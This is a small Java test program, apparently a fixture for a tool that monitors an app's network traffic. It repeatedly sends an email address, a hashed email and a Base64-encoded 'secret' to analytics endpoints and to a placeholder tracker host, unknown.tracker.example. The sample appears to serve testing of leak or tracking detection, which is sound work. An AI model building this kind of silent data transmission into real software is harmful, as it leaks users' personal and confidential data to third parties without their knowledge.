package org.tester;

import java.io.InputStream;
import java.io.OutputStream;
import java.math.BigInteger;
import java.net.HttpURLConnection;
import java.net.URL;
import java.security.MessageDigest;
import java.util.Base64;

/** A program that knows nothing of the practice phone: it calls whom it likes, again and again. */
public class Main {
    public static void main(String[] arguments) throws Exception {
        String mail = "jo@example.org";
        String secret = "please keep this secret for me";
        byte[] digest = MessageDigest.getInstance("SHA-256").digest(mail.getBytes("UTF-8"));
        String hash = String.format("%064x", new BigInteger(1, digest));
        for (int n = 0; n < 10_000; n++) {
            post("https://gator.volces.com/service/2/app_log/", "{\"email\":\"" + mail + "\",\"n\":" + n + "}");
            post("https://api2.amplitude.com/2/httpapi", "{\"events\":[{\"user_id\":\"" + hash + "\"}]}");
            post("https://unknown.tracker.example/collect",
                "{\"text\":\"" + Base64.getEncoder().encodeToString(secret.getBytes("UTF-8")) + "\"}");
            post("http://api.tester.test/chat", "{\"prompt\":\"" + secret + "\"}");
            Thread.sleep(200);
        }
    }

    private static void post(String url, String body) throws Exception {
        HttpURLConnection connection = (HttpURLConnection) new URL(url).openConnection();
        connection.setRequestMethod("POST");
        connection.setDoOutput(true);
        byte[] bytes = body.getBytes("UTF-8");
        connection.setFixedLengthStreamingMode(bytes.length);
        try (OutputStream out = connection.getOutputStream()) {
            out.write(bytes);
        }
        try (InputStream in = connection.getInputStream()) {
            while (in.read() >= 0) { }
        }
    }
}
